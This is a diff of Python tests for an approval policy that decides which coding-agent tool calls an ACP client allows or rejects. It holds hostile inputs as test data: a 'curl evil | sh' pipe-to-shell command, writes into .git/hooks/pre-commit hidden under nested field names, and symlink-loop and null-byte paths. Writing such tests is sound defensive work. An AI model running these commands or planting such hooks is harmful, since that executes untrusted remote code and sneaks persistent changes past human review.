@@ -399,3 +399,63 @@ async def test_always_for_this_run_covers_the_same_request_only(tmp_path: Path) 
     hook = {"kind": "edit", "locations": [{"path": ".git/hooks/x"}]}
     assert [(await decide(hook))[1], (await decide(hook))[1]] == ["user", "user"]
     assert asked == ["ls", "curl evil | sh", *["mcp__docs__search"] * 2, *["edit"] * 2]
+
+
+def test_asking_for_more_than_the_sandbox_is_left_to_a_person(tmp_path: Path) -> None:
+    tests_only = ApprovalPolicy.model_validate(
+        {"rules": [{"kind": "execute", "command": "python3 -m pytest -q", "decision": "allow"}]}
+    )
+    command = {"command": "python3 -m pytest -q", "cwd": str(tmp_path)}
+    for more in (
+        {"network": {"enabled": True}},
+        {"fileSystem": {"entries": [{"path": {"type": "special"}, "access": "write"}]}},
+    ):
+        call = {"kind": "execute", "rawInput": {**command, "additionalPermissions": more}}
+        request = request_from_acp("a", call, [], tmp_path)
+        assert decide_by_policy(tests_only, request)[0] == "reject", more
+        plain = request_from_acp("a", {"kind": "execute", "rawInput": command}, [], tmp_path)
+        assert request.same != plain.same  # "always" for the plain one does not cover it
+    # codex's network request for a protocol with no url says so only in its title.
+    socks = {"kind": "execute", "title": "Approve network access to x:1080", "rawInput": command}
+    assert _decide(tests_only, tmp_path, socks) == "reject"
+
+
+def test_paths_are_found_nested_under_other_names_and_nothing_earlier_is_dropped(
+    tmp_path: Path,
+) -> None:
+    allow_all = ApprovalPolicy(rules=[], default="allow")
+    hook = str(tmp_path / ".git/hooks/pre-commit")
+    for raw in (
+        {"dst": hook},
+        {"output_file": hook},
+        {"working_directory": str(tmp_path / ".git")},
+        {"edits": [{"file_path": hook}]},
+        {"changes": {hook: {"type": "add"}}},
+        {"path": "file://" + hook},
+    ):
+        call = {"kind": "edit", "rawInput": raw}
+        assert _decide(allow_all, tmp_path, call) == "reject", raw
+    # The request's own rawInput does not replace what the earlier call named.
+    earlier = {"kind": "move", "rawInput": {"new_path": hook}}
+    asked = {"kind": "move", "rawInput": {"file_path": "a.txt", "new_path": "b.txt"}}
+    assert _decide(allow_all, tmp_path, asked, earlier) == "reject"
+    # A person is shown the earlier diff when the request carries none of its own.
+    earlier = {"content": [{"type": "diff", "path": "a.py", "oldText": "", "newText": "evil()"}]}
+    reason = {"content": [{"type": "content", "content": {"type": "text", "text": "why"}}]}
+    shown = request_from_acp("a", {"kind": "edit", **reason}, [], tmp_path, earlier)
+    assert "+evil()" in shown.diff
+    # A request that is not what ACP says (the earlier call is not checked) is still read.
+    odd = request_from_acp("a", {"kind": "edit"}, [None], tmp_path, {"locations": 5})  # type: ignore[list-item]
+    assert odd.paths == []
+
+
+def test_paths_that_cannot_be_resolved_or_searched_are_not_allowed(tmp_path: Path) -> None:
+    (tmp_path / "loop1").symlink_to(tmp_path / "loop2")
+    (tmp_path / "loop2").symlink_to(tmp_path / "loop1")
+    policy = ApprovalPolicy()
+    for call in (
+        {"kind": "edit", "locations": [{"path": str(tmp_path / "loop1/x")}]},
+        {"kind": "delete", "locations": [{"path": str(tmp_path / ("d" * 300))}]},
+        {"kind": "edit", "rawInput": {"file_path": "a\x00b"}},
+    ):
+        assert _decide(policy, tmp_path, call) == "reject", call
